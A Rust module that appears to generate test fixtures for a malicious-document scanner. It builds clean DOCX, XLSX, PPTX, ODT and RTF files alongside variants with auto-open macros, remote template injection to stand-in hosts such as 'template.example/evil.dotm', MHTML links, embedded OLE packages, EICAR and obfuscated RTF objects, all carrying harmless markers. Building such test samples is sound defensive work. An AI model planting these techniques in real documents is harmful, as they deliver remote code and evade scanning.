//! Office Open XML, OpenDocument and RTF: clean documents and the ones with macros, external targets and objects.

use crate::ole;
use crate::vba;
use crate::zip::{Archive, Entry};
use crate::{eicar, marker, payload};

/// The parts of an OOXML or ODF package, to add to and to build.
#[derive(Debug, Clone)]
pub struct Package {
    parts: Vec<(String, Vec<u8>)>,
    overrides: String,
    relations: String,
    kind: Ooxml,
}

/// Which Office Open XML document.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Ooxml {
    /// Word.
    Docx,
    /// Excel.
    Xlsx,
    /// PowerPoint.
    Pptx,
}

impl Ooxml {
    fn main_part(self) -> (&'static str, &'static str) {
        match self {
            Self::Docx => ("word", "word/document.xml"),
            Self::Xlsx => ("xl", "xl/workbook.xml"),
            Self::Pptx => ("ppt", "ppt/presentation.xml"),
        }
    }

    fn content_type(self, macros: bool) -> &'static str {
        match (self, macros) {
            (Self::Docx, false) => "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            (Self::Xlsx, false) => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            (Self::Pptx, false) => "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml",
            (Self::Docx, true) => "application/vnd.ms-word.document.macroEnabled.main+xml",
            (Self::Xlsx, true) => "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            (Self::Pptx, true) => "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml",
        }
    }
}

const REL: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const XML: &str = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n";

impl Package {
    /// A minimal valid document with one text; `text` must not need XML escapes.
    pub fn new(kind: Ooxml, text: &str) -> Self {
        let mut package = Self { parts: Vec::new(), overrides: String::new(), relations: String::new(), kind };
        match kind {
            Ooxml::Docx => package.add_word(text),
            Ooxml::Xlsx => package.add_sheet(text),
            Ooxml::Pptx => package.add_slides(text),
        }
        package
    }

    /// Adds a part that no relationship names.
    pub fn part(mut self, name: &str, data: &[u8]) -> Self {
        self.parts.push((name.to_owned(), data.to_vec()));
        self
    }

    /// Adds a relationship of the main part; `kind` is its last word, such as `hyperlink`.
    pub fn relation(mut self, kind: &str, target: &str, external: bool) -> Self {
        let id = self.relations.matches("<Relationship ").count() + 1;
        let mode = if external { " TargetMode=\"External\"" } else { "" };
        let base = if kind == "vbaProject" { "http://schemas.microsoft.com/office/2006/relationships" } else { REL };
        self.relations += &format!("<Relationship Id=\"rId{id}\" Type=\"{base}/{kind}\" Target=\"{target}\"{mode}/>");
        self
    }

    /// Adds a file as an embedded package, with its relationship.
    pub fn embed(self, name: &str, data: &[u8]) -> Self {
        let folder = self.kind.main_part().0;
        self.part(&format!("{folder}/embeddings/{name}"), data).relation("package", &format!("embeddings/{name}"), false)
    }

    /// Adds a VBA project, with its relationship; `build_macro` then gives the right content type.
    pub fn project(self, project: vba::Project) -> Self {
        let folder = self.kind.main_part().0;
        let bytes = project.build();
        self.part(&format!("{folder}/vbaProject.bin"), &bytes).relation("vbaProject", "vbaProject.bin", false)
    }

    /// The file of a `.docx`, `.xlsx` or `.pptx`.
    pub fn build(self) -> Vec<u8> {
        self.write(false)
    }

    /// The file of a `.docm`, `.xlsm` or `.pptm`.
    pub fn build_macro(self) -> Vec<u8> {
        self.write(true)
    }

    fn write(self, macros: bool) -> Vec<u8> {
        let (folder, main) = self.kind.main_part();
        let types = format!(
            "{XML}<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
             <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
             <Default Extension=\"xml\" ContentType=\"application/xml\"/>\
             <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
             <Override PartName=\"/{main}\" ContentType=\"{}\"/>{}</Types>",
            self.kind.content_type(macros),
            self.overrides
        );
        let file = main.rsplit('/').next().unwrap_or(main);
        let root = relationships(&format!("<Relationship Id=\"rId1\" Type=\"{REL}/officeDocument\" Target=\"{main}\"/>"));
        let own = relationships(&self.relations);
        let own_name = format!("{folder}/_rels/{file}.rels");
        let mut entries = vec![Entry::deflated("[Content_Types].xml", types.as_bytes()), Entry::deflated("_rels/.rels", root.as_bytes())];
        entries.extend(self.parts.iter().map(|(name, data)| Entry::deflated(name, data)));
        entries.push(Entry::deflated(own_name, own.as_bytes()));
        Archive::of(entries).build()
    }

    fn add_word(&mut self, text: &str) {
        let body = format!(
            "{XML}<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body>\
             <w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
        );
        self.parts.push(("word/document.xml".to_owned(), body.into_bytes()));
    }

    fn add_sheet(&mut self, text: &str) {
        const MAIN: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        let book = format!(
            "{XML}<workbook xmlns=\"{MAIN}\" xmlns:r=\"{REL}\"><sheets><sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"
        );
        let sheet = format!(
            "{XML}<worksheet xmlns=\"{MAIN}\"><sheetData><row r=\"1\"><c r=\"A1\" t=\"inlineStr\"><is><t>{text}</t></is></c></row>\
             </sheetData></worksheet>"
        );
        self.parts.push(("xl/workbook.xml".to_owned(), book.into_bytes()));
        self.parts.push(("xl/worksheets/sheet1.xml".to_owned(), sheet.into_bytes()));
        self.relate("worksheet", "worksheets/sheet1.xml");
        self.override_type("xl/worksheets/sheet1.xml", "spreadsheetml.worksheet");
    }

    fn add_slides(&mut self, text: &str) {
        let names = format!(
            "xmlns:a=\"http://schemas.openxmlformats.org/drawingml/2006/main\" xmlns:r=\"{REL}\" \
             xmlns:p=\"http://schemas.openxmlformats.org/presentationml/2006/main\""
        );
        let tree = |body: &str| {
            format!(
                "<p:cSld><p:spTree><p:nvGrpSpPr><p:cNvPr id=\"1\" name=\"\"/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/>{body}\
                 </p:spTree></p:cSld>"
            )
        };
        let shape = format!(
            "<p:sp><p:nvSpPr><p:cNvPr id=\"2\" name=\"Text\"/><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr/>\
             <p:txBody><a:bodyPr/><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:txBody></p:sp>"
        );
        let deck = format!(
            "{XML}<p:presentation {names}><p:sldIdLst><p:sldId id=\"256\" r:id=\"rId1\"/></p:sldIdLst>\
             <p:sldSz cx=\"9144000\" cy=\"6858000\"/><p:notesSz cx=\"6858000\" cy=\"9144000\"/></p:presentation>"
        );
        let slide = format!("{XML}<p:sld {names}>{}</p:sld>", tree(&shape));
        self.parts.push(("ppt/presentation.xml".to_owned(), deck.into_bytes()));
        self.parts.push(("ppt/slides/slide1.xml".to_owned(), slide.into_bytes()));
        self.relate("slide", "slides/slide1.xml");
        self.override_type("ppt/slides/slide1.xml", "presentationml.slide");
    }

    fn relate(&mut self, kind: &str, target: &str) {
        let id = self.relations.matches("<Relationship ").count() + 1;
        self.relations += &format!("<Relationship Id=\"rId{id}\" Type=\"{REL}/{kind}\" Target=\"{target}\"/>");
    }

    fn override_type(&mut self, part: &str, kind: &str) {
        self.overrides += &format!(
            "<Override PartName=\"/{part}\" ContentType=\"application/vnd.openxmlformats-officedocument.{kind}+xml\"/>"
        );
    }
}

/// A document from a template at `target`: the attack is a `settings.xml` relationship.
pub fn docx_with_template(target: &str, text: &str) -> Vec<u8> {
    let settings = format!(
        "{XML}<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" xmlns:r=\"{REL}\">\
         <w:attachedTemplate r:id=\"rId1\"/></w:settings>"
    );
    let relation =
        relationships(&format!("<Relationship Id=\"rId1\" Type=\"{REL}/attachedTemplate\" Target=\"{target}\" TargetMode=\"External\"/>"));
    Package::new(Ooxml::Docx, text)
        .part("word/settings.xml", settings.as_bytes())
        .part("word/_rels/settings.xml.rels", relation.as_bytes())
        .relation("settings", "settings.xml", false)
        .build()
}

/// An OpenDocument text with one paragraph; `extra` are more parts, `in_content` more XML before the body.
pub fn odt(text: &str, in_content: &str, extra: &[(&str, &[u8], &str)]) -> Vec<u8> {
    const KIND: &str = "application/vnd.oasis.opendocument.text";
    let names = "xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\" \
                 xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"";
    let content = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<office:document-content {names} office:version=\"1.2\">{in_content}<office:body>\
         <office:text><text:p>{text}</text:p></office:text></office:body></office:document-content>"
    );
    let listed: String = extra
        .iter()
        .map(|(name, _, kind)| format!("<manifest:file-entry manifest:full-path=\"{name}\" manifest:media-type=\"{kind}\"/>"))
        .collect();
    let manifest = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\" \
         manifest:version=\"1.2\"><manifest:file-entry manifest:full-path=\"/\" manifest:media-type=\"{KIND}\"/>\
         <manifest:file-entry manifest:full-path=\"content.xml\" manifest:media-type=\"text/xml\"/>{listed}</manifest:manifest>"
    );
    let mut entries = vec![Entry::stored("mimetype", KIND.as_bytes()), Entry::deflated("content.xml", content.as_bytes())];
    entries.extend(extra.iter().map(|(name, data, _)| Entry::deflated(name, data)));
    entries.push(Entry::deflated("META-INF/manifest.xml", manifest.as_bytes()));
    Archive::of(entries).build()
}

/// An OpenDocument text with a Basic macro that runs when the document is opened.
pub fn odt_with_macro(seed: &str) -> Vec<u8> {
    let event = "<office:scripts><office:event-listeners><script:event-listener script:language=\"ooo:script\" \
                 script:event-name=\"dom:load\" xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document\" \
                 xlink:type=\"simple\"/></office:event-listeners></office:scripts>";
    let module = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<script:module xmlns:script=\"http://openoffice.org/2000/script\" script:name=\"Module1\" \
         script:language=\"StarBasic\">Sub Main\n    &apos; {}\n    Shell(&quot;echo harmless test&quot;)\nEnd Sub\n</script:module>",
        marker(seed)
    );
    let library = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<library:library xmlns:library=\"http://openoffice.org/2000/library\" \
                   library:name=\"Standard\" library:readonly=\"false\"><library:element library:name=\"Module1\"/></library:library>";
    odt(
        "A letter with a macro.",
        event,
        &[
            ("Basic/Standard/Module1.xml", module.as_bytes(), "text/xml"),
            ("Basic/Standard/script-lb.xml", library.as_bytes(), "text/xml"),
        ],
    )
}

/// An RTF with the given groups in its body.
pub fn rtf(text: &str, groups: &str) -> Vec<u8> {
    format!("{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0 Arial;}}}}\\f0\\fs24 {text}\\par\n{groups}}}\n").into_bytes()
}

/// An RTF object group around an OLE1 object; `noise` is put between its hexadecimal digits.
pub fn rtf_object(class: &str, object: &[u8], control: &str, noise: &str) -> String {
    let hex = data_encoding::HEXLOWER.encode(object);
    let lines: Vec<&str> = hex.as_bytes().chunks(64).filter_map(|line| std::str::from_utf8(line).ok()).collect();
    let body = lines.join(&format!("\n{noise}"));
    format!("{{\\object\\objemb{control}\\objw100\\objh100{{\\*\\objclass {class}}}{{\\*\\objdata {body}}}{{\\result{{\\pard object\\par}}}}}}")
}

/// Every OOXML, ODF and RTF file: name, bytes; the marker of each is `marker(<name up to the first dot>)`.
pub fn samples() -> Vec<(&'static str, Vec<u8>)> {
    let clean = |kind, seed: &str| Package::new(kind, &marker(seed)).build();
    let linked = |seed: &str, kind: &str, target: &str| Package::new(Ooxml::Docx, &marker(seed)).relation(kind, target, true).build();
    let template = |seed: &str, target: &str| docx_with_template(target, &marker(seed));
    let object = |seed: &str, control: &str, noise: &str| {
        let package = ole::ole1_package("evil.txt", &payload(seed));
        rtf("A letter with an object.", &rtf_object("Package", &package, control, noise))
    };
    vec![
        ("docx-clean.docx", clean(Ooxml::Docx, "docx-clean")),
        ("xlsx-clean.xlsx", clean(Ooxml::Xlsx, "xlsx-clean")),
        ("pptx-clean.pptx", clean(Ooxml::Pptx, "pptx-clean")),
        ("docm-autoopen.docm", Package::new(Ooxml::Docx, "A letter.").project(vba::auto_open("docm-autoopen")).build_macro()),
        ("xlsm-autoopen.xlsm", Package::new(Ooxml::Xlsx, "A table.").project(vba::auto_open("xlsm-autoopen")).build_macro()),
        ("docm-empty-modules.docm", {
            let project = vba::Project::new().module("ThisDocument", vba::Kind::Document, "");
            Package::new(Ooxml::Docx, &marker("docm-empty-modules")).project(project).build_macro()
        }),
        ("docx-template-http.docx", template("docx-template-http", "http://template.example/evil.dotm")),
        ("docx-template-unc.docx", template("docx-template-unc", "file:///\\\\server.example\\share\\evil.dotm")),
        ("docx-template-local.docx", template("docx-template-local", "file:///C:\\Templates\\Normal.dotm")),
        ("docx-mhtml.docx", linked("docx-mhtml", "oleObject", "mhtml:http://server.example/page.html!x-usc:http://server.example/page.html")),
        ("docx-hyperlink.docx", linked("docx-hyperlink", "hyperlink", "https://www.example.com/")),
        ("docx-hyperlink-exe.docx", linked("docx-hyperlink-exe", "hyperlink", "https://files.example/invoice.exe")),
        ("docx-embedded.docx", Package::new(Ooxml::Docx, "A letter.").embed("evil.txt", &payload("docx-embedded")).build()),
        ("docx-embedded-eicar.docx", Package::new(Ooxml::Docx, &marker("docx-embedded-eicar")).embed("object.bin", &eicar()).build()),
        ("docx-stray-part.docx", Package::new(Ooxml::Docx, "A letter.").part("word/stray.bin", &payload("docx-stray-part")).build()),
        ("docx-ole-package.docx", {
            let package = crate::cfb::Cfb::new().stream("\u{1}Ole10Native", &ole::ole10_native("evil.txt", &payload("docx-ole-package")));
            Package::new(Ooxml::Docx, "A letter.").embed("oleObject1.bin", &package.build()).build()
        }),
        ("odt-clean.odt", odt(&marker("odt-clean"), "", &[])),
        ("odt-macro.odt", odt_with_macro("odt-macro")),
        ("odt-embedded.odt", odt("A letter.", "", &[("ObjectReplacements/evil.txt", &payload("odt-embedded"), "text/plain")])),
        ("rtf-clean.rtf", rtf(&marker("rtf-clean"), "")),
        ("rtf-package.rtf", object("rtf-package", "", "")),
        ("rtf-autoupdate.rtf", object("rtf-autoupdate", "\\objupdate", "")),
        ("rtf-noise.rtf", object("rtf-noise", "\\objupdate", "{\\*\\noise 1}\\par1 ")),
        ("rtf-template.rtf", rtf(&marker("rtf-template"), "{\\*\\template http://template.example/evil.dotm}")),
    ]
}

fn relationships(body: &str) -> String {
    format!("{XML}<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{body}</Relationships>")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_package_opens_and_has_its_first_part_first() {
        for (name, bytes) in samples() {
            if name.ends_with("rtf") {
                assert!(bytes.starts_with(b"{\\rtf1"));
                continue;
            }
            let mut archive = ::zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
            let first = archive.by_index(0).unwrap().name().unwrap().into_owned();
            assert_eq!(first, if name.ends_with("odt") { "mimetype" } else { "[Content_Types].xml" }, "{name}");
            for index in 0..archive.len() {
                std::io::copy(&mut archive.by_index(index).unwrap(), &mut std::io::sink()).unwrap();
            }
        }
    }
}
